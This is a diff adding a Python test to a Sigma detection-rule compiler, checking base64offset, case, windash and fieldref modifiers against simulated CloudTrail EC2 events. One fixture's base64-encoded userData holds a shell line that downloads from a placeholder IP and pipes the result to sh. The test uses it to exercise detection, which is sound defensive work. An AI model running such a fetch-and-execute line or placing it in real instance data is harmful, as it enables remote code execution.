@@ -624,3 +624,26 @@ def test_unsupported_sigmahq_rules_are_listed_with_their_reason():
     [r] = load_file(FIXTURES / "sigma" / "unsupported" / "aws_cloudtrail_console_susp_login.yml")
     comp = compile_rule(r.sigma, DUCK, placeholders={"Legitimate_Countries": ["DE"], "Legitimate_IP_Ranges": ["x"]})
     assert {w.split("'")[1] for w in comp.warnings} == {"status", "src_country", "src_ip"}
+
+
+def test_pysigma_modifiers_base64_cased_windash_fieldref_startswith():
+    import base64
+
+    c = duckdb.connect()
+    encoded = base64.b64encode(b"#!/bin/sh\ncurl http://203.0.113.5/x | sh").decode()
+    store.insert_records(c, [
+        record("ModifyInstanceAttribute", "ec2.amazonaws.com", user("a"), at(0), event_id="ud", ua="Boto3/1.34 -x",
+               rp={"userData": {"value": encoded}}),
+        record("ModifyInstanceAttribute", "ec2.amazonaws.com", user("b"), at(1), event_id="benign", ua="boto3/1.34",
+               rp={"userData": {"value": base64.b64encode(b"#!/bin/sh\necho hello").decode()}}),
+    ])
+    assert hits(c, {"s": {"requestParameters.userData.value|base64offset|contains": "curl http"},
+                    "condition": "s"}) == {"ud"}
+    assert hits(c, {"s": {"userAgent|cased|startswith": "Boto3"}, "condition": "s"}) == {"ud"}
+    assert hits(c, {"s": {"userAgent|startswith": "Boto3"}, "condition": "s"}) == {"ud", "benign"}
+    assert hits(c, {"s": {"userAgent|windash|contains": "/x"}, "condition": "s"}) == {"ud"}  # '-x' is a variant
+    # "boto3/1.34" starts with "b", the user b (case-insensitive); "Boto3/1.34 -x" does not start with "a"
+    assert hits(c, {"s": {"userAgent|fieldref|startswith": "userIdentity.userName"}, "condition": "s"}) == {"benign"}
+    assert hits(c, {"s": {"userIdentity.arn|fieldref|endswith": "userIdentity.userName"}, "condition": "s"}) \
+        == {"ud", "benign"}
+    c.close()
